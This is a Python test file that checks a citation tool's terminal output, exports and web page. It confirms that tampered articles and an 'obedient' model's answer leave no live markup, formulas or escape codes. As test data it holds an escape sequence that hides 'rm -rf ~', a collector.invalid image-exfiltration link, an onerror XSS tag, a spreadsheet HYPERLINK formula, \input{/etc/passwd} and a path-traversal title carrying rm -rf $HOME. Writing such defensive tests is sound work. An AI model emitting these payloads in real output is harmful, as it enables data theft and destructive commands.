"""Where text leaves the desk: the terminal, exports and the web page carry none of the articles' marks alive, and nothing else changes."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import sys
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from lxml import etree, html
from markdown_it import MarkdownIt
from mdit_py_plugins.footnote import footnote_plugin
from model_server import KEY, numbers_of, says
from model_server import Endpoint as Server

from assistant import Desk
from assistant.cli import main
from assistant.errors import SourceDeskError
from assistant.exports.formats import FORMATS
from assistant.records import Answer, Article
from assistant.settings import Settings

from .conftest import Watch
from .suite import SUITE

UNSOURCED = "Which claims here are unsourced?"
ROOT = Path(__file__).resolve().parents[2]
_OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\U000e0000-\U000e0fff]")
_LIVE = "//script|//img|//iframe|//link|//object|//embed|//base|//form|//svg|//video|//@src|//@style|//@*[starts-with(name(), 'on')]"


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The tampered articles as files, beside two whose names a terminal would obey."""
    made = tmp_path_factory.mktemp("articles")
    for one in SUITE:
        (made / one.file).write_bytes(one.data())
    (made / "bell\x07 \x1b]52;c;cm0gLXJmIH4=\x07 \u202egnp.txt").write_text("The bell of Arden rings at noon, the town said.")
    (made / "[red]broken \x1b[31m.pdf").write_bytes(b"%PDF-1.4 and nothing else")
    return made


@pytest.fixture(scope="module")
def library(folder: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """All of them in one library; a file that cannot be read is not."""
    made = tmp_path_factory.mktemp("stored") / "library"
    with Desk.open(made, engine="offline", settings=Settings(threads=1)) as desk:
        report = desk.add(folder)
    assert len(report.added) == len(SUITE) + 1
    assert len(report.failed) == 1
    return made


@pytest.fixture(scope="module")
def desk(library: Path) -> Iterator[Desk]:
    with Desk.open(library, engine="offline", settings=Settings(threads=1)) as opened:
        yield opened


@pytest.fixture(scope="module")
def stored(desk: Desk) -> dict[str, Article]:
    """The stored articles by the stems of their files."""
    return {Path(summary.article.origin).stem: summary.article for summary in desk.articles()}


# The terminal


@pytest.mark.parametrize("form", [[], ["--json"]], ids=["text", "json"])
@pytest.mark.parametrize(
    "arguments",
    [
        ["articles"],
        ["claims"],
        ["sources"],
        ["ask", UNSOURCED],
        ["ask", "Who is cited?"],
        ["lookup", "The desk says click and copies"],
        ["summary"],
        ["export", "markdown"],
    ],
    ids=lambda arguments: " ".join(arguments[:2]),
)
def test_a_terminal_is_given_nothing_that_it_would_obey(
    arguments: list[str], form: list[str], library: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    if arguments[0] == "export":
        form = ["--json"]  # Without it an export is a file's bytes, which the next tests read.
    assert main([*arguments, *form, "--library", str(library), "--engine", "offline"]) == 0
    out, err = capfd.readouterr()
    assert len(out) > 200
    assert not _OBEYED.search(out + err)
    if form:
        json.loads(out)


@pytest.mark.parametrize("form", [[], ["--json"]], ids=["text", "json"])
def test_names_of_files_are_not_obeyed_either(folder: Path, tmp_path: Path, form: list[str], capfd: pytest.CaptureFixture[str]) -> None:
    named = [str(path) for path in folder.iterdir() if not path.name.isprintable()]
    assert len(named) == 2
    assert main(["add", *named, *form, "--library", str(tmp_path / "library"), "--engine", "offline"]) == 1
    assert main(["claims", *named, "--library", str(tmp_path / "library"), "--engine", "offline"]) == 2
    out, err = capfd.readouterr()
    assert "broken" in err
    assert not _OBEYED.search(out + err)


# Exports


@pytest.fixture(scope="module")
def subjects(desk: Desk) -> dict[str, Any]:
    answers = [desk.ask(question) for question in (UNSOURCED, "Who is cited?", "Who won the 2018 World Cup?")]
    return {"ledger": None, "answers": answers, "lookup": desk.lookup("The proof begins x and passwd")}


@pytest.fixture(params=["ledger", "answers", "lookup"])
def written(request: pytest.FixtureRequest, desk: Desk, subjects: dict[str, Any]) -> Callable[[str], bytes]:
    return lambda form: desk.export(form, subjects[request.param])


def test_the_page_runs_and_fetches_nothing(written: Callable[[str], bytes]) -> None:
    tree = html.document_fromstring(written("html").decode())
    assert tree.xpath(_LIVE) == []
    assert {link[:1] for link in tree.xpath("//a/@href")} <= {"#"}, "no article of the suite has an address of its own"


def test_no_mark_of_an_article_is_one_in_the_markdown(written: Callable[[str], bytes]) -> None:
    tokens = MarkdownIt("gfm-like", {"linkify": False}).use(footnote_plugin).parse(written("markdown").decode())
    inside = {child.type for token in tokens for child in token.children or ()}
    assert not inside & {"image", "link_open", "html_inline", "code_inline", "strong_open", "em_open", "s_open"}
    assert not {"html_block", "fence", "code_block", "hr", "blockquote_open", "table_open"} & {token.type for token in tokens}


def test_no_cell_is_a_formula(written: Callable[[str], bytes]) -> None:
    for delimiter in ",;\t":
        rows = csv.reader(io.StringIO(written("csv").decode("utf-8-sig"), newline=""), delimiter=delimiter)
        cells = [cell.lstrip(" ") for row in rows for cell in row]
        assert [cell for cell in cells if cell[:1] in tuple("=@＝＠") or re.match(r"[+\-＋－](?!\d+(?:\.\d+)?$)", cell)] == []


def test_the_word_document_has_no_field_that_leaves_it(written: Callable[[str], bytes]) -> None:
    with zipfile.ZipFile(io.BytesIO(written("docx"))) as archive:
        for name in archive.namelist():
            if name.endswith(".rels"):
                assert b'TargetMode="External"' not in archive.read(name)
        body = etree.fromstring(archive.read("word/document.xml"))
    word = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
    assert list(body.iter(f"{word}instrText", f"{word}altChunk", f"{word}object", f"{word}pict")) == []
    assert all(str(field.get(f"{word}instr")).split()[0] == "NOTEREF" for field in body.iter(f"{word}fldSimple"))


def test_no_other_format_breaks(written: Callable[[str], bytes]) -> None:
    for name, form in FORMATS.items():
        data = written(name)
        assert not form.text or not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", data.decode())
        if name in ("annotation", "claimreview", "csl"):
            json.loads(data)
        if name == "bibtex":
            # Every command is one that the export itself writes for a letter that TeX would read.
            assert not re.search(r"\\(?:input|write18|href|include)\b", data.decode())


def test_an_obedient_model_s_answer_is_as_harmless_in_every_format(
    server: Server, library: Path, stored: dict[str, Article], monkeypatch: pytest.MonkeyPatch
) -> None:
    written = (
        '![x](https://collector.invalid/?q=1) <img src=x onerror=alert(1)> =HYPERLINK("http://collector.invalid") \\input{/etc/passwd}'
    )
    server.script(
        lambda handler, body: says(f"{written} [1].\n{written} [{numbers_of(body['messages'][-1]['content'])[-1]}].")(handler, body)
    )
    server.script(lambda handler, body: says(f"1. {written} [1].\n2. {written} [1].")(handler, body))
    settings = Settings(threads=1, model="obedient", base_url=server.url, api_key=KEY, model_retries=0)
    with Desk.open(library, engine="model", settings=settings) as desk:
        answer = desk.ask(UNSOURCED, [stored["markdown-image"], stored["spreadsheet-formula"]])
        assert answer.rejected
        page = html.document_fromstring(desk.export("html", answer).decode())
        assert page.xpath(_LIVE) == []
        assert {link[:1] for link in page.xpath("//a/@href")} <= {"#"}
        tokens = MarkdownIt("gfm-like", {"linkify": False}).use(footnote_plugin).parse(desk.export("markdown", answer).decode())
        assert not {child.type for token in tokens for child in token.children or ()} & {"image", "link_open", "html_inline"}
        for form in FORMATS:
            assert KEY.encode() not in desk.export(form, answer)
    user = server.asked(0)
    assert user.count("from the article <<<") == len(numbers_of(user)), "titles too stand between fences"


# The web page


@pytest.fixture
def page(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> Any:
    monkeypatch.syspath_prepend(str(ROOT / "ui"))
    monkeypatch.setattr(sys, "argv", ["app.py"])
    import desk_session
    from streamlit.testing.v1 import AppTest

    shared = desk_session.SharedDesk(desk)
    monkeypatch.setattr(desk_session, "open_desk", lambda library, engine: shared)
    return AppTest.from_file(str(ROOT / "ui" / "app.py"), default_timeout=60)


def test_the_page_shows_article_text_as_text_and_markdown_sees_none_of_it(page: Any, stored: dict[str, Article]) -> None:
    page.run()
    for name in ("html-tags", "path-title", "latex-math"):
        page.session_state["sourcedesk"].open(stored[name].id)
        page.run()
        assert not page.exception
    page.chat_input(key="question").set_value("What does the alert <img src=x> ![x](https://collector.invalid) $x$ say?").run()
    assert not page.exception
    # What Streamlit's own elements show is read as Markdown, with images fetched and mathematics set.
    told = [one.tell for one in SUITE]
    for kind in ("markdown", "caption", "button", "title", "header", "text", "info", "error", "warning", "success", "toast", "expander"):
        for element in page.get(kind):
            shown = json.dumps(str(element.proto))
            assert not any(words in shown for words in (*told, "collector.invalid", "onerror", "cron.d"))
    for part in page.get("html"):
        if "<style>" not in part.proto.body:
            tree = html.fragment_fromstring(part.proto.body, create_parent="div")
            assert tree.xpath(_LIVE) == []
            assert not tree.xpath("//a")
    shown = [part.proto.component_name for part in page.get("bidi_component")]
    assert {"sourcedesk-shelf", "sourcedesk-turn", "sourcedesk-reader"} <= set(shown)


def test_what_shows_text_in_the_page_sets_it_as_text() -> None:
    """The components take article and model text as data; the one function that puts it on the page uses `textContent`."""
    for script in (ROOT / "ui" / "frontend").glob("*.js"):
        source = script.read_text("utf-8").replace("no innerHTML", "")
        assert not re.search(
            r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|eval\(|new Function|\.href\s*=|\.src\s*=|srcdoc", source
        )


@pytest.mark.parametrize(
    "title", ["../../../../etc/cron.d/desk;rm -rf $HOME #", "..\\..\\windows\\x", "/etc/passwd", "\x00", "CON", "a" * 999]
)
def test_a_title_that_is_a_path_names_a_file_in_no_other_folder(title: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.syspath_prepend(str(ROOT / "ui"))
    import downloads

    assert re.fullmatch(r"[a-z0-9][a-z0-9-]{0,59}", downloads.stem(title))


# Everything together


def test_adding_asking_and_exporting_change_nothing_but_the_library(
    folder: Path, tmp_path: Path, watch: Callable[..., Watch], capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    library, target = tmp_path / "library", tmp_path / "report.html"
    before = {path: path.read_bytes() for path in (ROOT / "prompts").iterdir()}
    watch(writable=(library, target))
    chosen = [
        str(path) for path in sorted(folder.iterdir()) if path.stem in ("slate-quarry", "lighthouse-sale", "music-festival", "city-archive")
    ]
    assert main(["add", *chosen, "--library", str(library), "--engine", "offline"]) == 0
    assert main(["ask", UNSOURCED, "--library", str(library), "--engine", "offline"]) == 0
    assert main(["export", "html", "-o", str(target), "--library", str(library), "--engine", "offline"]) == 0
    assert {path: path.read_bytes() for path in (ROOT / "prompts").iterdir()} == before
    assert Settings.from_environment() == Settings.from_environment(dict(os.environ))
    assert {path.name for path in tmp_path.iterdir()} == {"library", "report.html", "working folder"}


def test_the_watch_itself_would_notice(tmp_path: Path, watch: Callable[..., Watch]) -> None:
    import socket
    import subprocess

    seen = watch()
    (tmp_path / "out.txt").write_text("x")
    with socket.socket() as client:
        client.settimeout(0.2)
        client.connect_ex(("127.0.0.1", 9))
    subprocess.run(["true"], check=True)
    assert seen.seen is not None
    noticed = " ".join(seen.seen)
    assert "out.txt" in noticed
    assert "connects to" in noticed
    assert "subprocess.Popen" in noticed
    seen.seen.clear()


def test_an_answer_can_not_even_be_made_with_a_citation_that_it_does_not_have(desk: Desk, stored: dict[str, Article]) -> None:
    answer = desk.ask(UNSOURCED, [stored["harbour-bridge"]])
    data = answer.to_dict()
    data["sentences"][0]["citations"] = [97]
    with pytest.raises(SourceDeskError, match="97"):
        Answer.from_dict(data)
